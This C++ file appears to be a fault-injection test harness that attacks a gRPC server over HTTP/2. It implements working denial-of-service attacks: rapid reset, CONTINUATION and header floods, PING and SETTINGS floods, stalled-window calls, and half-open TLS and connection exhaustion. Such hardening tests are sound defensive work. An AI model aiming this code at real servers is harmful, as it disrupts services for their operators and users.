// SPDX-License-Identifier: Apache-2.0
#include "tests/fault/hostile/http2_attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <iterator>
#include <limits>
#include <memory>
#include <thread>
#include <utility>

#include "absl/status/status.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/strings/str_split.h"
#include "absl/synchronization/notification.h"
#include "absl/time/clock.h"
#include "tests/fault/hostile/attack.h"

namespace ballast {
namespace {

constexpr size_t kFrameBytes = 16384;
// Pause between two attempts of a connection that the server ended.
constexpr absl::Duration kPause = absl::Milliseconds(20);

constexpr size_t kMaxWriteBytes = 64 << 10;

absl::Status Ended() { return absl::UnavailableError("the server has ended the connection"); }

// An HPACK string of less than 127 bytes, uncompressed.
std::string Text(absl::string_view text) { return absl::StrCat(std::string(1, static_cast<char>(text.size())), text); }

// A header that neither side adds to its table.
std::string Literal(absl::string_view name, absl::string_view value) {
  return absl::StrCat(absl::string_view("\0", 1), Text(name), Text(value));
}

// The frame types and flags of RFC 9113 that attacks need.
enum class Http2Frame : uint8_t {
  kData = 0,
  kHeaders = 1,
  kResetStream = 3,
  kSettings = 4,
  kPing = 6,
  kContinuation = 9,
};

inline constexpr uint8_t kHttp2EndStream = 1;
// Flag of SETTINGS.
inline constexpr uint8_t kHttp2Acknowledges = 1;
inline constexpr uint8_t kHttp2EndHeaders = 4;

// The bytes that every client sends before its first frame.
inline constexpr absl::string_view kHttp2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

// A frame of less than 2^24 bytes, as on the wire.
std::string EncodeHttp2Frame(Http2Frame type, uint8_t flags, uint32_t stream, absl::string_view payload);

// An HPACK block for a gRPC call of `path` ("/ballast.v1.ParameterService/GetStatus"), all names literal, with
// `token` unless it is empty.
std::string EncodeGrpcHeaders(const std::string& path, const std::string& token);

// A message as gRPC puts it into DATA.
std::string EncodeGrpcMessage(absl::string_view message);

// An HPACK literal that announces a value of `value_bytes` bytes and stops before the first of them.
std::string EncodeUnfinishedHeader(uint32_t value_bytes);

// Owns one connection to a server, over which any bytes can be sent; knows no HTTP/2. Every call ends at the
// connection's deadline. Thread safety: confined to one thread.
class Http2Peer {
 public:
  // `address` is an IPv4 address like "127.0.0.1:7700". Does the TLS handshake unless `tls` is null. UNAVAILABLE if
  // the server does not accept the connection.
  static absl::StatusOr<std::unique_ptr<Http2Peer>> Connect(const std::string& address, const TlsFiles* tls,
                                                            absl::Time deadline) {
    const std::vector<std::string> parts = absl::StrSplit(address, ':');
    sockaddr_in to = {};
    to.sin_family = AF_INET;
    int port = 0;
    if (parts.size() != 2 || !absl::SimpleAtoi(parts[1], &port) ||
        inet_pton(AF_INET, parts[0].c_str(), &to.sin_addr) != 1) {
      return absl::InvalidArgumentError(absl::StrCat("address: got \"", address, "\", want IPv4:PORT"));
    }
    to.sin_port = htons(static_cast<uint16_t>(port));
    const int file = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (file < 0) return absl::ErrnoToStatus(errno, "no socket");
    std::unique_ptr<Http2Peer> peer(new Http2Peer(file, deadline));
    if (connect(file, reinterpret_cast<const sockaddr*>(&to), sizeof(to)) != 0) {
      if (errno != EINPROGRESS) return absl::UnavailableError("the server does not accept the connection");
      if (absl::Status status = peer->Await(POLLOUT); !status.ok()) return status;
      int error = 0;
      socklen_t length = sizeof(error);
      getsockopt(file, SOL_SOCKET, SO_ERROR, &error, &length);
      if (error != 0) return absl::UnavailableError("the server does not accept the connection");
    }
    if (tls == nullptr) return peer;
    if (absl::Status status = peer->ShakeHands(*tls); !status.ok()) return status;
    return peer;
  }
  ~Http2Peer() { close(socket_); }
  Http2Peer(const Http2Peer&) = delete;

  // If true (the default), the peer reads and drops the server's bytes; if not, the server stalls on full buffers.
  void SetHears(bool hears) { hears_ = hears; }

  // UNAVAILABLE if the server has ended the connection, DEADLINE_EXCEEDED if it accepts nothing until the deadline.
  absl::Status Send(absl::string_view bytes) {
    while (!bytes.empty()) {
      if (hears_) {
        if (absl::Status status = Hear(); !status.ok()) return status;
      }
      const size_t most = std::min(bytes.size(), kMaxWriteBytes);
      ERR_clear_error();
      const ssize_t count = tls_ != nullptr ? SSL_write(tls_.get(), bytes.data(), static_cast<int>(most))
                                            : send(socket_, bytes.data(), most, MSG_NOSIGNAL);
      if (count > 0) {
        bytes.remove_prefix(count);
        continue;
      }
      const bool full = tls_ != nullptr ? SSL_get_error(tls_.get(), static_cast<int>(count)) == SSL_ERROR_WANT_WRITE
                                        : errno == EAGAIN || errno == EINTR;
      if (!full) return Ended();
      const short events = static_cast<short>(hears_ ? POLLIN | POLLOUT : POLLOUT);
      if (absl::Status status = Await(events); !status.ok()) return status;
    }
    return absl::OkStatus();
  }

  // Waits until the server has sent something. UNAVAILABLE if it has ended the connection instead.
  absl::Status AwaitWord() {
    while (heard_bytes_ == 0) {
      if (absl::Status status = Hear(); !status.ok()) return status;
      if (heard_bytes_ > 0) break;
      if (absl::Status status = Await(POLLIN); !status.ok()) return status;
    }
    return absl::OkStatus();
  }

  // Waits until the server ends the connection; DEADLINE_EXCEEDED if it does not.
  absl::Status AwaitEnd() {
    while (true) {
      if (absl::Status status = Hear(); !status.ok()) return absl::OkStatus();
      if (absl::Status status = Await(POLLIN); !status.ok()) return status;
    }
  }

 private:
  Http2Peer(int socket, absl::Time deadline) : socket_(socket), deadline_(deadline) {}
  absl::Status ShakeHands(const TlsFiles& tls) {
    context_.reset(SSL_CTX_new(TLS_client_method()));
    if (!tls.certificate.empty() &&
        (SSL_CTX_use_certificate_chain_file(context_.get(), tls.certificate.c_str()) != 1 ||
         SSL_CTX_use_PrivateKey_file(context_.get(), tls.key.c_str(), SSL_FILETYPE_PEM) != 1)) {
      return absl::InvalidArgumentError("the client's certificate cannot be used");
    }
    tls_.reset(SSL_new(context_.get()));
    SSL_set_fd(tls_.get(), socket_);
    constexpr unsigned char kProtocols[] = {2, 'h', '2'};
    SSL_set_alpn_protos(tls_.get(), kProtocols, sizeof(kProtocols));
    while (true) {
      ERR_clear_error();
      const int result = SSL_connect(tls_.get());
      if (result == 1) return absl::OkStatus();
      const int error = SSL_get_error(tls_.get(), result);
      if (error != SSL_ERROR_WANT_READ && error != SSL_ERROR_WANT_WRITE) return Ended();
      if (absl::Status status = Await(error == SSL_ERROR_WANT_READ ? POLLIN : POLLOUT); !status.ok()) return status;
    }
  }
  // Waits until the socket is ready for `events`.
  absl::Status Await(short events) {
    const int64_t left = absl::ToInt64Milliseconds(absl::Ceil(deadline_ - absl::Now(), absl::Milliseconds(1)));
    pollfd file = {socket_, events, 0};
    if (left > 0 && poll(&file, 1, static_cast<int>(std::min<int64_t>(left, 1 << 30))) == 1) return absl::OkStatus();
    return absl::DeadlineExceededError("the attack's time is over");
  }
  // Drops all received bytes. UNAVAILABLE at the end of the connection.
  absl::Status Hear() {
    std::array<char, 16384> heard;
    while (true) {
      ERR_clear_error();
      errno = 0;
      const ssize_t count = tls_ != nullptr ? SSL_read(tls_.get(), heard.data(), heard.size())
                                            : recv(socket_, heard.data(), heard.size(), 0);
      if (count > 0) {
        heard_bytes_ += count;
        continue;
      }
      const bool empty = tls_ != nullptr ? SSL_get_error(tls_.get(), static_cast<int>(count)) == SSL_ERROR_WANT_READ
                                         : count < 0 && (errno == EAGAIN || errno == EINTR);
      return empty ? absl::OkStatus() : Ended();
    }
  }

  const int socket_;
  const absl::Time deadline_;
  std::unique_ptr<SSL_CTX, void (*)(SSL_CTX*)> context_{nullptr, SSL_CTX_free};
  std::unique_ptr<SSL, void (*)(SSL*)> tls_{nullptr, SSL_free};
  bool hears_ = true;
  uint64_t heard_bytes_ = 0;
};

std::string EncodeHttp2Frame(Http2Frame type, uint8_t flags, uint32_t stream, absl::string_view payload) {
  const size_t size = payload.size();
  const std::array<uint8_t, 9> head = {static_cast<uint8_t>(size >> 16),
                                       static_cast<uint8_t>(size >> 8),
                                       static_cast<uint8_t>(size),
                                       static_cast<uint8_t>(type),
                                       flags,
                                       static_cast<uint8_t>(stream >> 24),
                                       static_cast<uint8_t>(stream >> 16),
                                       static_cast<uint8_t>(stream >> 8),
                                       static_cast<uint8_t>(stream)};
  return absl::StrCat(absl::string_view(reinterpret_cast<const char*>(head.data()), head.size()), payload);
}

std::string EncodeGrpcHeaders(const std::string& path, const std::string& token) {
  return absl::StrCat(Literal(":method", "POST"), Literal(":scheme", "http"), Literal(":path", path),
                      Literal(":authority", "hostile"), Literal("te", "trailers"),
                      Literal("content-type", "application/grpc"),
                      token.empty() ? "" : Literal("authorization", absl::StrCat("Bearer ", token)));
}

std::string EncodeGrpcMessage(absl::string_view message) {
  const size_t size = message.size();
  const std::array<char, 5> head = {0, static_cast<char>(size >> 24), static_cast<char>(size >> 16),
                                    static_cast<char>(size >> 8), static_cast<char>(size)};
  return absl::StrCat(absl::string_view(head.data(), head.size()), message);
}

std::string EncodeUnfinishedHeader(uint32_t value_bytes) {
  // The length is 127 plus the value of the following groups of seven bits.
  std::string header("\0\1a\x7f", 4);
  for (uint32_t left = value_bytes - 127; left > 0; left >>= 7) {
    header.push_back(static_cast<char>((left & 127) | (left >= 128 ? 128 : 0)));
  }
  return header;
}

// Bytes sent once per connection, and bytes sent repeatedly.
struct Script {
  // The client's settings, and whether it acknowledges the server's before it continues.
  absl::string_view settings;
  bool acknowledges = true;
  std::string opening;
  // Returns the next `frames_in_next` frames. Streams have odd numbers that rise.
  virtual std::string Next() = 0;
  uint64_t frames_in_next = 1;
  // After this many the connection stays open and sends nothing more.
  uint64_t most_frames = std::numeric_limits<uint64_t>::max();
  bool hears = true;
  virtual ~Script() = default;

 protected:
  uint32_t NextStream() { return stream_ += 2; }

 private:
  uint32_t stream_ = uint32_t(-1);
};

// Settings that leave no room for a response: SETTINGS_INITIAL_WINDOW_SIZE of 0.
constexpr absl::string_view kNoWindow("\0\4\0\0\0\0", 6);

// One complete call.
std::string EncodeCall(const Http2AttackOptions& options, uint32_t stream) {
  return absl::StrCat(
      EncodeHttp2Frame(Http2Frame::kHeaders, kHttp2EndHeaders, stream, EncodeGrpcHeaders(options.path, options.token)),
      EncodeHttp2Frame(Http2Frame::kData, kHttp2EndStream, stream, EncodeGrpcMessage(options.request)));
}

class UnfinishedHeaders : public Script {
 public:
  UnfinishedHeaders() {
    opening = EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), EncodeUnfinishedHeader(1u << 30));
  }
  std::string Next() override {
    return EncodeHttp2Frame(Http2Frame::kContinuation, 0, 1, std::string(kFrameBytes, 'a'));
  }
};

class EndlessContinuation : public Script {
 public:
  EndlessContinuation() {
    const std::string header("\0\1a\1b", 5);
    for (size_t i = 0; i < kFrameBytes / header.size(); ++i) headers_ += header;
    opening = EncodeHttp2Frame(Http2Frame::kHeaders, 0, NextStream(), header);
    frames_in_next = 2;
  }
  std::string Next() override {
    return absl::StrCat(EncodeHttp2Frame(Http2Frame::kContinuation, 0, 1, headers_),
                        EncodeHttp2Frame(Http2Frame::kContinuation, 0, 1, ""));
  }

 private:
  std::string headers_;
};

class RapidReset : public Script {
 public:
  explicit RapidReset(const Http2AttackOptions& options) : headers_(EncodeGrpcHeaders(options.path, options.token)) {
    frames_in_next = 2 * kCalls;
  }
  std::string Next() override {
    std::string frames;
    for (uint64_t i = 0; i < kCalls; ++i) {
      const uint32_t stream = NextStream();
      absl::StrAppend(&frames, EncodeHttp2Frame(Http2Frame::kHeaders, kHttp2EndHeaders, stream, headers_),
                      EncodeHttp2Frame(Http2Frame::kResetStream, 0, stream, absl::string_view("\0\0\0\x08", 4)));
    }
    return frames;
  }

 private:
  static constexpr uint64_t kCalls = 100;
  const std::string headers_;
};

// Repeats the same small frame.
class Flood : public Script {
 public:
  Flood(Http2Frame type, absl::string_view payload, bool hears_answers) {
    hears = hears_answers;
    frames_in_next = 1000;
    const std::string frame = EncodeHttp2Frame(type, 0, 0, payload);
    for (uint64_t i = 0; i < frames_in_next; ++i) frames_ += frame;
  }
  std::string Next() override { return frames_; }

 private:
  std::string frames_;
};

// Calls without room for their responses; with `most` calls or endless, if the peer never acknowledges the settings
// that limit them.
class UnreadCalls : public Script {
 public:
  UnreadCalls(const Http2AttackOptions& options, std::optional<uint64_t> most) : options_(options) {
    settings = kNoWindow;
    acknowledges = most.has_value();
    frames_in_next = 2;
    if (most.has_value()) most_frames = 2 * *most;
  }
  std::string Next() override { return EncodeCall(options_, NextStream()); }

 private:
  const Http2AttackOptions& options_;
};

std::unique_ptr<Script> MakeScript(const Http2AttackOptions& options) {
  switch (options.attack) {
    case Http2Attack::kUnfinishedHeaders:
      return std::make_unique<UnfinishedHeaders>();
    case Http2Attack::kEndlessContinuation:
      return std::make_unique<EndlessContinuation>();
    case Http2Attack::kRapidReset:
      return std::make_unique<RapidReset>(options);
    case Http2Attack::kPingFlood:
      return std::make_unique<Flood>(Http2Frame::kPing, "hostile!", /*hears_answers=*/true);
    case Http2Attack::kSettingsFlood:
      return std::make_unique<Flood>(Http2Frame::kSettings, "", /*hears_answers=*/false);
    case Http2Attack::kSlowReader:
      // Fewer than a server allows by default.
      return std::make_unique<UnreadCalls>(options, 60);
    case Http2Attack::kUnacknowledgedCalls:
      return std::make_unique<UnreadCalls>(options, std::nullopt);
    case Http2Attack::kHalfOpenTls:
    case Http2Attack::kManyConnections:
      break;
  }
  return nullptr;
}

// Sends what precedes the attack.
absl::Status Open(Http2Peer& peer, const Script& script) {
  absl::Status status =
      peer.Send(absl::StrCat(kHttp2Preface, EncodeHttp2Frame(Http2Frame::kSettings, 0, 0, script.settings)));
  if (script.acknowledges) {
    if (status.ok()) status = peer.AwaitWord();
    if (status.ok()) status = peer.Send(EncodeHttp2Frame(Http2Frame::kSettings, kHttp2Acknowledges, 0, ""));
  }
  if (status.ok()) status = peer.Send(script.opening);
  return status;
}

// Attacks over one connection at a time and counts the results. Returns the first error that prevents attacks.
absl::Status AttackConnection(const Http2AttackOptions& options, absl::Time end, Http2AttackCounts& counts) {
  YieldThreadToOthers();
  // OpenSSL writes to sockets that the server has closed.
  sigset_t broken_pipe;
  sigemptyset(&broken_pipe);
  sigaddset(&broken_pipe, SIGPIPE);
  pthread_sigmask(SIG_BLOCK, &broken_pipe, nullptr);
  const TlsFiles* const tls = options.tls.has_value() ? &*options.tls : nullptr;
  const absl::Notification never;
  while (absl::Now() < end) {
    auto peer = Http2Peer::Connect(options.address, tls, end);
    if (absl::IsInvalidArgument(peer.status())) return peer.status();
    if (!peer.ok()) {
      ++counts.refused;
      never.WaitForNotificationWithTimeout(kPause);
      continue;
    }
    ++counts.connections;
    const std::unique_ptr<Script> script = MakeScript(options);
    (*peer)->SetHears(script->hears);
    uint64_t sent = 0;
    absl::Status status = Open(**peer, *script);
    for (uint64_t frames = 0; status.ok() && sent < options.bytes_each && frames < script->most_frames;
         frames += script->frames_in_next) {
      const std::string next = script->Next();
      status = (*peer)->Send(next);
      sent += next.size();
      counts.frames += script->frames_in_next;
    }
    counts.bytes += sent;
    if (status.ok()) status = (*peer)->AwaitEnd().ok() ? absl::UnavailableError("ended") : absl::OkStatus();
    if (absl::IsUnavailable(status)) {
      ++counts.cut;
      never.WaitForNotificationWithTimeout(kPause);
    }
  }
  return absl::OkStatus();
}

// Opens connections that send `greeting` and then nothing; reopens those that the server ends.
absl::Status HoldConnections(const Http2AttackOptions& options, absl::string_view greeting, absl::Time end,
                             Http2AttackCounts& counts) {
  std::vector<std::unique_ptr<Http2Peer>> peers;
  while (absl::Now() < end && counts.connections < options.connections) {
    // A listener with a full queue does not respond; the next connection must not wait for it until the end.
    auto peer = Http2Peer::Connect(options.address, nullptr, std::min(end, absl::Now() + absl::Milliseconds(200)));
    if (absl::IsInvalidArgument(peer.status())) return peer.status();
    ++counts.connections;
    absl::Status status = peer.status();
    if (status.ok()) status = (*peer)->Send(greeting);
    counts.bytes += greeting.size();
    if (status.ok()) {
      peers.push_back(*std::move(peer));
    } else {
      ++counts.refused;
    }
  }
  const absl::Notification never;
  never.WaitForNotificationWithTimeout(end - absl::Now());
  for (const std::unique_ptr<Http2Peer>& peer : peers) counts.cut += peer->AwaitEnd().ok() ? 1 : 0;
  return absl::OkStatus();
}

}  // namespace

const std::vector<std::string>& Http2AttackNames() {
  static const auto& names = *new std::vector<std::string>{
      "unfinished_headers", "endless_continuation", "rapid_reset", "ping_flood",          "settings_flood",
      "half_open_tls",      "many_connections",     "slow_reader", "unacknowledged_calls"};
  return names;
}

absl::string_view NameOf(Http2Attack attack) { return Http2AttackNames()[static_cast<size_t>(attack)]; }

absl::StatusOr<Http2Attack> ParseHttp2Attack(absl::string_view name) {
  const std::vector<std::string>& names = Http2AttackNames();
  const auto found = std::find(names.begin(), names.end(), name);
  if (found != names.end()) return static_cast<Http2Attack>(std::distance(names.begin(), found));
  return absl::InvalidArgumentError(
      absl::StrCat("attack: got \"", name, "\", want one of ", absl::StrJoin(names, ", ")));
}

absl::StatusOr<Http2AttackCounts> RunHttp2Attack(const Http2AttackOptions& options) {
  const absl::Time end = absl::Now() + options.time;
  Http2AttackCounts all;
  // The header of a TLS record of 512 bytes, and the start of a ClientHello.
  constexpr absl::string_view kHalfHello("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11);
  if (options.attack == Http2Attack::kHalfOpenTls || options.attack == Http2Attack::kManyConnections) {
    const bool half = options.attack == Http2Attack::kHalfOpenTls;
    if (absl::Status status = HoldConnections(options, half ? kHalfHello : "", end, all); !status.ok()) return status;
    return all;
  }
  std::vector<Http2AttackCounts> counts(options.connections);
  std::vector<absl::Status> ends(options.connections);
  std::vector<std::thread> threads;
  for (uint32_t i = 0; i < options.connections; ++i) {
    threads.emplace_back([&, i] { ends[i] = AttackConnection(options, end, counts[i]); });
  }
  for (std::thread& thread : threads) thread.join();
  for (uint32_t i = 0; i < options.connections; ++i) {
    if (!ends[i].ok()) return ends[i];
    all.connections += counts[i].connections;
    all.refused += counts[i].refused;
    all.cut += counts[i].cut;
    all.frames += counts[i].frames;
    all.bytes += counts[i].bytes;
  }
  return all;
}

}  // namespace ballast
